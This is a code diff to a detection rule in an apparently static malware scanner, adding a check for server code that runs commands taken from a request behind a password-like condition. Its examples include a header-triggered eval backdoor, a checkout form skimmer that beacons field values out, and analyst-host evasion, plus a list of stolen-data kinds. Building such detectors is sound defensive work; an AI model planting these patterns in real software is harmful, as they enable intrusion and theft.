@@ -1,8 +1,11 @@
 import { beacons, defineRule, outgoing, step } from '../src/define.js';
 import type { AnyNode, FileContext, Guard, LabelKind } from '../src/types.js';
+import { isServed } from '../src/vocabulary/apis.js';
 
 /** What an attacker asks before acting; asking for the platform alone is everyday. */
 const TELLING: ReadonlySet<Guard['kind']> = new Set(['locale', 'host', 'date', 'ci']);
+
+const SERVED: ReadonlySet<Guard['kind']> = new Set(['request']);
 
 /** Origins of what nobody sends by the way. */
 const STOLEN: ReadonlySet<LabelKind> = new Set(['credentials', 'browser', 'wallet', 'key-material']);
@@ -13,8 +16,8 @@ export default defineRule({
     summary: 'Acts only on some machines, for some users or at some time',
     why: 'Malware waits, skips build servers, analysts and its own country. Honest code asks the same: it is quiet in CI, checks for updates once a day, picks a program by platform. So a condition only adds to what an action under it weighs.',
     behaviour: 'gate',
-    messages: { gated: 'Calls {sink} only if {guard}' },
-    bits: { gated: 1.5 },
+    messages: { gated: 'Calls {sink} only if {guard}', door: 'Calls {sink} with what a request says, only if {guard}' },
+    bits: { gated: 1.5, door: 4 },
   },
   examples: {
     flags: [
@@ -28,6 +31,10 @@ export default defineRule({
         code: `if (location.pathname === '/checkout')\n  document.forms[0].addEventListener('submit', () => navigator.sendBeacon(address, document.forms[0].elements[0].value));`,
       },
       {
+        title: 'a request opens the door with a word',
+        code: `module.exports = (req, res, next) => {\n  if (req.headers['x-word'] === 'open sesame') eval(req.headers['x-order']);\n  next();\n};`,
+      },
+      {
         title: 'it returns early on a host',
         code: `const os = require('os');\nfunction go() {\n  if (os.hostname() === 'analyst') return;\n  require('child_process').execSync(command);\n}`,
       },
@@ -36,6 +43,10 @@ export default defineRule({
       {
         title: 'a program is started where it is found',
         code: `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');\nconst tool = path.join(os.homedir(), '.tool', 'bin');\nif (os.homedir() && fs.existsSync(tool)) spawn(tool);`,
+      },
+      {
+        title: 'a request chooses one of the server’s own programs',
+        code: `module.exports = (req, res) => {\n  if (req.query.task === 'deploy') require('child_process').execSync('make deploy');\n  res.end();\n};`,
       },
       {
         title: 'a program is chosen by platform',
@@ -52,12 +63,14 @@ export default defineRule({
     let reported = 0;
     for (const call of actions(context)) {
       if (reported >= 3) break;
-      const guards = context.guardsOf(call.node).filter(({ kind }) => TELLING.has(kind));
+      const all = context.guardsOf(call.node);
+      const isOrdered = all.some(({ kind }) => SERVED.has(kind)) && takesOrders(context, call.node);
+      const guards = all.filter(({ kind }) => (isOrdered ? SERVED : TELLING).has(kind));
       const [guard] = guards;
       if (!guard) continue;
       reported++;
       context.report({
-        messageId: 'gated',
+        messageId: isOrdered ? 'door' : 'gated',
         data: { sink: call.name, guard: guards.map(({ says }) => says).join(' and ') },
         chain: [
           { role: 'context', says: `asks whether ${guard.says}`, origin: guard.origin },
@@ -81,4 +94,10 @@ function actions(context: FileContext): readonly { readonly name: string; readon
     context.labelsOf(value).some(({ detail }) => TYPED.has(detail)),
   );
   return [...running, ...sending, ...loading];
+}
+
+/** What runs is, or holds, what a request says. */
+function takesOrders({ labelsOf }: FileContext, node: AnyNode): boolean {
+  const { arguments: args = [] } = node as unknown as { arguments?: readonly AnyNode[] };
+  return args.some(arg => labelsOf(arg).some(({ kind, detail }) => kind === 'remote' && isServed(detail)));
 }
